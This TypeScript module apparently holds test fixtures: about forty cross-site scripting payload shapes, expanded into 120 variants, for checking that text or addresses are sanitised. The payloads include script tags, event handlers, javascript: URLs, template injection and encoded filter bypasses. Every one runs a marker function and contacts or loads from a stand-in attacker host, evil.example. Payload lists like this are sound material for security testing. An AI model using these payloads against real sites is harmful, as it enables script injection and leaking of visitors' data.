/** Script payloads that an attacker might put in a text or an address. */
const beacon = 'https://evil.example/'
const act = `pwned(1);fetch('${beacon}')`
export const shapes = [
  `<script>${act}</script>`,
  `"><script>${act}</script>`,
  `'><script>${act}</script>`,
  `</script><script>${act}</script>`,
  `</title><script>${act}</script>`,
  `</textarea><script>${act}</script>`,
  `<img src=x onerror="${act}">`,
  `<img src=${beacon}x>`,
  `<svg onload="${act}">`,
  `<svg><script>${act}</script></svg>`,
  `<iframe srcdoc="<script>parent.pwned(1)</script>">`,
  `<iframe src="javascript:${act}">`,
  `<body onload=${act}>`,
  `<details open ontoggle=${act}>`,
  `<input autofocus onfocus=${act}>`,
  `<math><mtext><script>${act}</script>`,
  `<a href="javascript:${act}">x</a>`,
  `<form action="javascript:${act}"><button>x`,
  `<link rel=stylesheet href=${beacon}>`,
  `<style>@import '${beacon}'</style>`,
  `<meta http-equiv=refresh content="0;url=${beacon}">`,
  `<base href=${beacon}>`,
  `<object data=${beacon}>`,
  `<embed src=${beacon}>`,
  `" onmouseover="${act}" x="`,
  `' autofocus onfocus='${act}`,
  `javascript:${act}`,
  `data:text/html,<script>${act}</script>`,
  `\u0001javascript:${act}`,
  `jAvAsCrIpT:${act}`,
  `{{constructor.constructor('${act}')()}}`,
  `\${${act}}`,
  `<!--><script>${act}</script>-->`,
  `<![CDATA[<script>${act}</script>]]>`,
  `\\u003cscript\\u003e${act}\\u003c/script\\u003e`,
  `&lt;script&gt;${act}&lt;/script&gt;`,
  `&#60;script&#62;${act}`,
  `%3Cscript%3E${act}`,
  `<scr<script>ipt>${act}</script>`,
  `<ScRiPt\t>${act}</sCrIpT>`,
]
/** Three variants of each shape: unchanged, with a capital first letter of each tag, and after a line break. 120 in all. */
export const payloads = shapes.flatMap((shape) => [
  shape,
  shape.replace(/<(\w)/g, (_, letter: string) => `<${letter.toUpperCase()}`),
  `x\n${shape}`,
])
/** All payloads in one text. */
export const everything = payloads.join(' ')
